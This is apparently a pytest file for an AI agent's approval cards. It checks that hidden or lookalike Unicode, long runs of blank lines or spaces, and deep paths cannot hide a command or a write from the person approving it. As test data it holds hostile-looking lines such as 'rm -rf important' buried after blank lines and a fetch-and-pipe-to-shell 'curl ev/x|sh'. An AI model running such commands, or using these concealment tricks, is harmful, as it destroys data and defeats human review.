"""What a card shows: nothing is hidden, turned around or pushed out of sight, and a write is shown as a difference."""

from __future__ import annotations

import pytest

from hermes_agent.approvals import text
from hermes_agent.approvals.types import ApprovalQuestion
from hermes_agent.execution.base import SandboxOpening
from hermes_state.ids import ConversationId, TurnId


class TestACommand:
    @pytest.mark.parametrize(
        "code", [0x3164, 0x2800, 0x200E, 0x200F, 0x061C, 0x202E, 0x00A0, 0x2003, 0x3000, 0x200B, 0x115F, 0xFE0F, 0x1B]
    )
    def test_what_a_screen_would_not_show_is_named(self, code: int) -> None:
        (line,) = text.exactly(f"rm{chr(code)}x")
        assert line == f"rm⟨U+{code:04X}⟩x"

    def test_letters_of_every_language_stay(self) -> None:
        for word in (
            "Grüße",
            "漢字",
            "привет",
            "naïve",
            "a  b",
            "'$x' && {y}",
            "n\u0303",
            "ที่นี่",
            "नमस्ते",
            "שָׁלוֹם",
            "m² 1º …",
        ):
            assert text.exactly(word) == [word]

    @pytest.mark.parametrize(
        ("line", "shown"),
        [
            ("\u0441url x", "⟨U+0441⟩url x"),
            ("./\u0441\u043e\u0440\u0443", "./⟨U+0441⟩⟨U+043E⟩⟨U+0440⟩⟨U+0443⟩"),
            ("./run\u2024sh a\u2215b", "./run⟨U+2024⟩sh a⟨U+2215⟩b"),
            ("\uff52m x", "⟨U+FF52⟩m x"),
            (
                "\u217durl ./\u217eeploy.sh \u210ettp \u017fudo \ufb01le",
                "⟨U+217D⟩url ./⟨U+217E⟩eploy.sh ⟨U+210E⟩ttp ⟨U+017F⟩udo ⟨U+FB01⟩le",
            ),
            ("\u1d04url \u13a0eploy \ua4f2s \u2c9fk", "⟨U+1D04⟩url ⟨U+13A0⟩eploy ⟨U+A4F2⟩s ⟨U+2C9F⟩k"),
            ("rm\u0336 x\u20dd", "rm⟨U+0336⟩ x⟨U+20DD⟩"),
            ("\u0338ls " + "e" + "\u0301" * 5, "⟨U+0338⟩ls e" + "\u0301" * 3 + "⟨U+0301⟩⟨U+0301⟩"),
        ],
    )
    def test_a_letter_that_only_looks_like_another_is_named(self, line: str, shown: str) -> None:
        assert text.exactly(line) == [shown]

    def test_words_of_such_letters_stay_in_a_text_of_their_language(self) -> None:
        for line in (
            "git commit -m 'Привет мир, роса'",
            "echo ελληνικά μου",
            "echo kısa naïve",
            "cat файл.txt x（日本）",
        ):
            assert text.exactly(line) == [line]

    def test_the_name_of_a_folder_is_no_other_line_of_the_card(self) -> None:
        asked = ApprovalQuestion(
            id="q", kind="command", command="ls", workdir="/x\nsandbox  the workspace only\x1b[2J", detail="",
            why="a\nb", conversation_id=ConversationId("c"), turn_id=TurnId("t"), call_id="", person_id=None,
            platform="", expires_at=60, seconds=60,
        )  # fmt: skip
        shown = dict(text.facts(asked, whom="Ada"))
        assert (shown["where"], shown["why"]) == ("/x sandbox the workspace only⟨U+001B⟩[2J", "a b")

    def test_empty_lines_do_not_push_the_command_away(self) -> None:
        shown = text.exactly("ls\n" + "\n" * 3_500 + "rm -rf important")
        assert shown == ["ls", "⟨3,500 empty lines⟩", "rm -rf important"]
        assert text.exactly("a\n\n\nb") == ["a", "", "", "b"], "a few stay"
        assert text.exactly("x" + "\n \t" * 50) == ["x", "⟨50 empty lines⟩"]

    def test_blanks_do_not_either(self) -> None:
        assert text.exactly("ls" + " " * 8_000 + "; rm x") == ["ls⟨8,000 blanks⟩; rm x"]
        assert text.exactly("ls" + "\t" * 100 + "; rm x") == ["ls⟨100 blanks⟩; rm x"]
        assert text.exactly("        indented") == ["        indented"]

    def test_the_beginning_is_one_line_and_the_measure_tells_two_apart(self) -> None:
        assert text.beginning("rm -rf a\nls") == "rm -rf a ⏎ ls"
        assert text.beginning("x" * 500, 20) == "x" * 19 + "…"
        assert text.beginning("ls" + "\n" * 5_000 + "rm").startswith("ls ⏎ ⟨") and "…" in text.beginning("a" * 4_000)
        assert text.measure("abc").startswith("3 characters, hash ") and text.measure("abc") != text.measure("abd")


class TestAWrite:
    def test_what_changes_is_shown_with_sizes_and_hashes(self) -> None:
        facts, *lines = text.difference(b"one\ntwo\nthree\n", b"one\n2\nthree\n").split("\n")
        assert facts.startswith("14 bytes, hash ") and "→ 12 bytes, hash " in facts
        assert "-two" in lines and "+2" in lines and " one" in lines

    def test_a_new_and_a_deleted_file(self) -> None:
        assert text.difference(None, b"a\n").startswith("no file → 2 bytes") and "+a" in text.difference(None, b"a\n")
        assert text.difference(b"a\n", None) == f"2 bytes, hash {text.short_hash(b'a' + bytes([10]))} → deleted"

    def test_it_is_bounded(self) -> None:
        big = b"".join(b"line %d\n" % number for number in range(100_000))
        shown = text.difference(None, big)
        assert len(shown) < 5_000 and "more lines⟩" in shown
        assert "more characters⟩" in text.difference(b"", b"x" * 10_000)
        assert len(text.difference(b"y\n" * 300_000, big)) < 5_000

    def test_what_is_hidden_in_it_is_named_too(self) -> None:
        assert "⟨U+202E⟩" in text.difference(b"", "a\u202eb".encode())
        assert "⟨not text⟩" in text.difference(b"", b"\xff\xfe\x00")

    def test_the_same_size_is_not_the_same_content(self) -> None:
        assert text.difference(None, b"echo hello1\n") != text.difference(None, b"curl ev/x|sh")


class TestButtons:
    def test_they_say_exactly_what_they_grant(self) -> None:
        every = ("task", "once", "session", "always", "deny")
        assert text.labels("command", [["network", "curl"]], every) == {
            "task": "Network for this task", "once": "This command once", "session": "Network in this conversation",
            "always": "Network always", "deny": "Deny",
        }  # fmt: skip
        mixed = [["network", "curl"], ["folder", "/srv/x"], ["change", "rm"], ["network", "git"]]
        assert text.labels("command", mixed, ("task",))["task"] == (
            "Network and writes to /srv/x and this command for this task"
        )
        assert text.labels("command", [["host", "systemctl"]], ("always",)) == {"always": "This command always"}
        assert text.labels("plugin", [["tool", "deploy"]], ("task", "once")) == {
            "task": "Tool deploy for this task", "once": "This call once",
        }  # fmt: skip

    def test_a_long_path_does_not_push_the_end_away(self) -> None:
        folders = [["folder", f"/srv/{number}/" + "deep/" * 20 + "x\u202e"] for number in range(5)]
        (label,) = text.labels("command", folders[:1], ("task",)).values()
        assert label.startswith("Writes to …") and label.endswith("x⟨U+202E⟩ for this task") and len(label) < 70
        several = [["folder", f"/srv/{number}"] for number in range(5)]
        assert text.labels("command", several, ("task",))["task"] == (
            "Writes to /srv/0 and writes to /srv/1 and writes to /srv/2 and 2 more for this task"
        )

    @pytest.mark.parametrize(
        ("sandbox", "opening", "words"),
        [
            ("bubblewrap", "", "inside bubblewrap: the workspace only, no network"),
            ("landlock", SandboxOpening(network=True).shown, "inside landlock, opened for this: network"),
            ("bubblewrap", SandboxOpening(folders=("/srv/x",)).shown, "opened for this: writes to /srv/x"),
            ("bubblewrap", SandboxOpening(host=True).shown, "outside bubblewrap, with all the rights of your account"),
            ("none", SandboxOpening(host=True).shown, "none works on this machine"),
            ("host", SandboxOpening(host=True).shown, "executor: host"),
        ],
    )
    def test_the_card_names_the_sandbox_and_what_a_yes_opens(self, sandbox: str, opening: str, words: str) -> None:
        assert words in text.opens("command", sandbox, opening)
